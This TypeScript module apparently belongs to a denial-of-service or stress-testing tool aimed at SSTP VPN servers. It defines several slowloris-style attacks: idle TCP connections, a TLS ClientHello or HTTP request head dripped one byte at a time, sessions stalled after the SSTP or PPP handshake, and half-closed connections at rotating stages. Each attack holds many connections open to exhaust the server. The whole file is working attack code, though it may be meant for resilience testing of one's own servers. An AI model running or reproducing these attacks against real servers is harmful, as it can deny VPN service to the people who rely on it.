// Those who take their time, or fall silent, at every stage; and those who close one half of the connection.
import type { Socket } from "node:net";
import type { Attack, AttackOptions } from "./attack.ts";
import { endure, pause, together } from "./pace.ts";
import { clientHello, openSstp, openTcp, openTls } from "./wire.ts";

const REQUEST = "SSTP_DUPLEX_POST /sra_{BA195980-CD49-458b-9E23-C84EE0ADCD75}/ HTTP/1.1\r\n";

/** Writes `bytes` one at a time for as long as anybody listens. */
async function drip(socket: Socket, bytes: Uint8Array, every: number, signal: AbortSignal): Promise<void> {
    for (let at = 0; socket.writable && at < bytes.length; at += 1) {
        socket.write(bytes.subarray(at, at + 1));
        if (!(await pause(every, signal))) return;
    }
}

type Stage = (options: AttackOptions, index: number, signal: AbortSignal) => Promise<Socket | undefined>;

/** Takes every connection as far as `stage` gets it, and counts what becomes of it. */
const holding =
    (stage: Stage): Attack =>
    (options, tally, signal) =>
        together(options, async (index) => {
            const socket = await stage(options, index, signal);
            if (socket === undefined) tally.add("refused");
            else await endure(socket, options, tally, signal);
        });

/** Not a byte. */
export const silentTcp = holding((options, index) => openTcp(options, index));

/** A byte of a ClientHello every two seconds. */
export const slowHello = holding(async (options, index, signal) => {
    const socket = await openTcp(options, index);
    void drip(socket, await clientHello(options.target.servername), 2_000, signal);
    return socket;
});

/** A byte of the HTTP head every 200 milliseconds. */
export const slowHead = holding(async (options, index, signal) => {
    const pair = await openTls(options, index);
    if (pair !== undefined) void drip(pair.tls, Buffer.from(REQUEST), 200, signal);
    return pair?.tls;
});

/** HTTP 200, and then no SSTP. */
export const silentSstp = holding(async (options, index) => (await openSstp(options, index, false))?.tls);

/** A call, and then no PPP. */
export const silentPpp = holding(async (options, index) => (await openSstp(options, index, true))?.tls);

/** FIN at one of the stages in turn; what the server says is read until it ends, too. */
export const halfOpen = holding(async (options, index) => {
    const stage = index % 4;
    if (stage === 0) return (await openTcp(options, index)).end();
    if (stage === 1) {
        const socket = await openTcp(options, index);
        return socket.end((await clientHello(options.target.servername)).subarray(0, 100));
    }
    const pair = stage === 2 ? await openTls(options, index) : await openSstp(options, index, true);
    // TCP's end, without TLS' own: as a middle box that gives up, or a process that was killed.
    pair?.tcp.end();
    return pair?.tls;
});
